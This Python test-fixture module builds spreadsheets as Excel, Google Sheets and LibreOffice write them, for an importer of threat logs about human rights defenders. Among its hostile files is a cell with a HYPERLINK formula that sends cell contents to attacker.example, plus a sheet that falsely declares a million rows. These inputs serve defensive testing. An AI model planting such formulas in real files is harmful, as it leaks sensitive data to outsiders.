"""Spreadsheets as offices really have them, made in the tests (issue 20's real-world files).

Each builder writes the bytes the named program writes: Excel's "CSV" on Windows (Windows-1252,
semicolons in a French or German locale, CRLF, no byte-order mark), Google Sheets' "Download as
CSV" (UTF-8 without a mark, commas, CRLF, quotes only where needed, dates as the sheet's locale
shows them), LibreOffice's .xlsx (a merged title row, merged heading cells, real date cells and
plain serial numbers), and hostile files.
"""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from pathlib import Path

from openpyxl import Workbook

EXCEL_HEADINGS = ["Defender", "Primary category", "When it happened", "Description", "Severity",
                  "Country", "Where"]


def excel_windows_csv(path: Path) -> Path:
    """Excel 2016 on Windows in a French locale, 'CSV (séparateur: point-virgule)'."""
    rows = [
        EXCEL_HEADINGS,
        ["Heron", "Physical", "15/03/2024", "Suivi jusqu'à l'école; menacé — «on sait où tu vis»",
         "3", "Kenya", "Nairobi, près du café"],
        ["Amina Diallo", "Digital", "02/04/2024", "Compte piraté: mot de passe changé à 3h",
         "2", "KE", ""],
        ["heron", "Defamation", "2023", "Article diffamatoire (journal « Le Matin »)", "1",
         "kenya", ""],
    ]
    text = "\r\n".join(";".join(_excel_quote(c) for c in row) for row in rows) + "\r\n"
    path.write_bytes(text.encode("cp1252"))
    return path


def _excel_quote(cell: str) -> str:
    if any(ch in cell for ch in ';"\r\n'):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def google_sheets_csv(path: Path) -> Path:
    """Google Sheets, File > Download > CSV, a sheet in the United States locale."""
    rows = [
        ["Defender", "Primary category", "When it happened", "Description", "Reported to",
         "Status"],
        ["Heron", "physical", "3/15/2024", 'Stopped at a checkpoint, told "we know you"',
         "Police;Embassy", "Open"],
        ["Heron", "legal", "4/3/2024", "Summons to court\nsecond line of the note", "none",
         "monitoring"],
        ["Amina Diallo", "phone", "March 2024", "SMS threats, several", "", "closed"],
    ]
    lines = []
    for row in rows:
        lines.append(",".join('"' + c.replace('"', '""') + '"'
                              if any(ch in c for ch in ',"\n') else c for c in row))
    path.write_bytes(("\r\n".join(lines)).encode("utf-8"))  # no newline after the last row
    return path


def libreoffice_xlsx(path: Path, *, data_under_merge: bool = False) -> Path:
    """LibreOffice Calc 7, saved as Excel 2007-365: a merged title, merged heading cells, dates
    as date cells and one as a bare serial number."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Threat log"
    book.properties.creator = "LibreOffice"
    sheet["A1"] = "Threat log 2024 (office copy)"
    sheet.merge_cells("A1:F1")
    headings = ["Defender", "Primary category", "When it happened", "Description", None,
                "Severity"]
    for column, heading in enumerate(headings, start=1):
        sheet.cell(row=2, column=column, value=heading)
    sheet.merge_cells("D2:E2")  # "Description" spans two columns, the second stays empty
    rows = [
        ["Heron", "Physical", datetime(2024, 3, 15), "Followed home", None, 3],
        ["Amina Diallo", "Digital", 45366, "Phishing mail", None, 2],  # a bare serial
        ["Heron", "Family", datetime(2024, 2, 1, 14, 30), "Relative questioned", None, 4.0],
        ["Heron", "Legal", date(2023, 11, 30), "Court summons", "extra" if data_under_merge
         else None, 1],
    ]
    for offset, row in enumerate(rows):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=3 + offset, column=column, value=value)
            if column == 3 and isinstance(value, int):
                cell.number_format = "General"
            elif column == 3:
                cell.number_format = "DD/MM/YYYY"
    book.save(path)
    return path


def formula_xlsx(path: Path) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Defender", "Primary category", "When it happened", "Description",
                  "Where"])
    sheet.append(["Heron", "digital", "2024-03-01",
                  '=HYPERLINK("http://attacker.example/x?"&A1,"click me")', "=1+1"])
    book.save(path)
    return path


def sheet_with_empty_rows(path: Path, empty: int) -> Path:
    """An .xlsx whose worksheet holds `empty` explicit empty rows between two data rows and
    declares itself a million rows tall."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Defender", "Primary category", "When it happened", "Description"])
    sheet.append(["Heron", "other", "2024", "first"])
    book.save(path)
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode("utf-8")
    rows = "".join(f'<row r="{n}"/>' for n in range(3, 3 + empty))
    last = (f'<row r="{3 + empty}"><c r="A{3 + empty}" t="inlineStr"><is><t>Heron</t></is></c>'
            f'<c r="B{3 + empty}" t="inlineStr"><is><t>other</t></is></c>'
            f'<c r="C{3 + empty}" t="inlineStr"><is><t>2023</t></is></c>'
            f'<c r="D{3 + empty}" t="inlineStr"><is><t>last</t></is></c></row>')
    xml = xml.replace("</sheetData>", rows + last + "</sheetData>")
    xml = xml.replace('<dimension ref="A1:D2"/>', '<dimension ref="A1:XFD1048576"/>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, xml.encode("utf-8") if name == "xl/worksheets/sheet1.xml"
                            else data)
    return path
